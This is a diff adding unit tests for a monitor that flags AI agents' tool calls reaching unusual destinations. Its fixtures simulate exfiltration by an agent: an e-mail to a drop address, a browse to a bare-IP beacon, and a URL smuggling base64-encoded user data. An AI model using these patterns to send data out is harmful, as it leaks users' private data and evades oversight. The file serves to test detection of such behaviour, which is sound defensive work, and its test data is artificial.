@@ -137,6 +137,24 @@ describe('LLM detectors', () => {
     const event: InferenceEvent = { source: 't', line: 1, client: 'c', toolCalls: [{ name: 'fetch_url', arguments: args }] };
     expect(techniquesOf(run(toolDestinations, [event], params), 'c')).toEqual(techniques);
   });
+
+  describe('monitor/tool-destinations without an allow list', () => {
+    const call = (client: string, name: string, args: object): InferenceEvent => ({ source: 't', line: 1, client, toolCalls: [{ name, arguments: JSON.stringify(args) }] });
+    // 40 learning calls: an e-mail tool that always writes to support, and a browser that opens 40 different sites.
+    const start = Array.from({ length: 40 }, (_, i) => (i % 2 ? call(`u${i}`, 'send_email', { to: 'support@acme.example' }) : call(`u${i}`, 'browse', { url: `https://news${i}.example/story/${i}` })));
+    const flagged = (events: InferenceEvent[]): string[] => [...new Set(run(toolDestinations, [...start, ...events], { learn: 40, openTool: 15 }).map((a) => a.client))].sort();
+
+    it('flags a fixed-destination tool writing somewhere new, and a browser opening a drop; not a browser opening a new page', () => {
+      expect(flagged([call('reader', 'browse', { url: 'https://weather.example/oslo' }), call('exfil', 'send_email', { to: 'drop@exfil-mail.example' }), call('beacon', 'browse', { url: 'http://203.0.113.7/c' }), call('carrier', 'browse', { url: `https://cdn.example/p.png?d=${'QWxsIHRoZSB1c2VyJ3MgY29udGFjdHMgYW5kIG1lc3NhZ2Vz'}` })])).toEqual(['beacon', 'carrier', 'exfil']);
+    });
+
+    it('takes a destination two clients reached as usual, and not one that a single client repeats', () => {
+      const partner = ['a', 'b', 'c'].map((c) => call(c, 'send_email', { to: 'billing@partner.example' }));
+      expect(flagged(partner)).toEqual(['a', 'b']);
+      const repeated = Array.from({ length: 3 }, () => call('x', 'send_email', { to: 'me@drop.example' }));
+      expect(run(toolDestinations, [...start, ...repeated], { learn: 40 }).find((a) => a.client === 'x')?.raises).toBe(3);
+    });
+  });
 });
 
 describe('the monitor family', () => {
